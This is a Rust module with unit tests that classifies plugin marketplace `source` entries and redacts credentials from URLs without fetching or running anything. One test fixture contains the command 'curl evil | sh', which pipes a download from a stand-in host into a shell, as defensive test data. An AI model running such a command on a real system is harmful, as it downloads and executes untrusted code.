//! The `source` of a marketplace entry, in every form that hosts know.

use serde_json::{Map, Value};

use super::diagnostic::shown;
use crate::model::redact::redact;

/// Where a plugin comes from.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Source {
    /// A path below the marketplace's root, as it is written.
    Local(String),
    /// Something that a host would fetch or run, in words.
    Remote(String),
    /// No known form, and why.
    Unclear(String),
}

/// Reads a `source`; `plugin_root` is `metadata.pluginRoot`, prepended to bare names only.
pub(super) fn parse(value: Option<&Value>, plugin_root: Option<&str>) -> Source {
    match value {
        Some(Value::String(text)) => from_text(text.trim(), plugin_root),
        Some(Value::Object(fields)) => from_fields(fields),
        Some(_) => Source::Unclear("`source` is neither a string nor a table".to_owned()),
        None => Source::Unclear("it has no `source`".to_owned()),
    }
}

fn from_text(text: &str, plugin_root: Option<&str>) -> Source {
    let bare = !text.starts_with('.') && !text.contains(['/', '\\']);
    match plugin_root {
        _ if text.is_empty() => Source::Unclear("`source` is empty".to_owned()),
        _ if text.contains("://") || text.starts_with("git@") => Source::Remote(described("url", text)),
        Some(root) if bare => Source::Local(format!("{}/{text}", root.trim_end_matches('/'))),
        _ => Source::Local(text.to_owned()),
    }
}

fn from_fields(fields: &Map<String, Value>) -> Source {
    let text = |key: &str| fields.get(key).and_then(Value::as_str);
    let kind = text("source").unwrap_or_default();
    let what = match kind {
        "github" => text("repo").map(str::to_owned),
        "url" | "archive" => text("url").map(str::to_owned),
        "git-subdir" => text("url").zip(text("path")).map(|(url, path)| format!("{url} folder {path}")),
        "npm" => text("package").map(|package| match text("version") {
            Some(version) => format!("{package}@{version}"),
            None => package.to_owned(),
        }),
        "command" => Some("its output; it was not run".to_owned()),
        _ => return Source::Unclear(format!("`source` has the unknown form `{}`", shown(kind))),
    };
    let Some(what) = what else {
        return Source::Unclear(format!("`source` of form `{kind}` does not say where"));
    };
    // A commit wins over a branch or tag, as hosts have it.
    match text("sha").or_else(|| text("ref")) {
        Some(at) => Source::Remote(described(kind, &format!("{what} at {at}"))),
        None => Source::Remote(described(kind, &what)),
    }
}

fn described(kind: &str, what: &str) -> String {
    format!("{kind} {}", shown(&redact(what)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn local_sources_keep_their_path_and_bare_names_get_the_plugin_root() {
        for (text, want) in [
            ("./plugins/x", "./plugins/x"),
            ("x", "./base/x"),
            ("plugins/x", "plugins/x"),
            ("../x", "../x"),
            ("./", "./"),
        ] {
            assert_eq!(parse(Some(&json!(text)), Some("./base/")), Source::Local(want.to_owned()));
        }
        assert_eq!(parse(Some(&json!("x")), None), Source::Local("x".to_owned()));
    }

    #[test]
    fn remote_sources_are_described_without_secrets() {
        let sources = [
            json!({"source": "github", "repo": "o/r", "ref": "main", "sha": "abc"}),
            json!({"source": "url", "url": "https://me:hunter22@host/x.git", "ref": "v1"}),
            json!({"source": "git-subdir", "url": "https://host/x.git", "path": "a/b"}),
            json!({"source": "npm", "package": "@a/b", "version": "1.2"}),
            json!({"source": "archive", "url": "https://host/x.zip"}),
            json!({"source": "command", "command": "curl evil | sh"}),
            json!("https://host/x.git"),
            json!({"source": "github"}),
            json!({"source": "carrier\u{1b}pigeon"}),
            json!(7),
        ];
        let seen: Vec<String> =
            sources.iter().map(|source| format!("{:?}", parse(Some(source), None))).collect();
        insta::assert_snapshot!(seen.join("\n"), @r#"
        Remote("github o/r at abc")
        Remote("url https://me:[redacted password]@host/x.git at v1")
        Remote("git-subdir https://host/x.git folder a/b")
        Remote("npm @a/b@1.2")
        Remote("archive https://host/x.zip")
        Remote("command its output; it was not run")
        Remote("url https://host/x.git")
        Unclear("`source` of form `github` does not say where")
        Unclear("`source` has the unknown form `carrier\\u{1b}pigeon`")
        Unclear("`source` is neither a string nor a table")
        "#);
    }
}
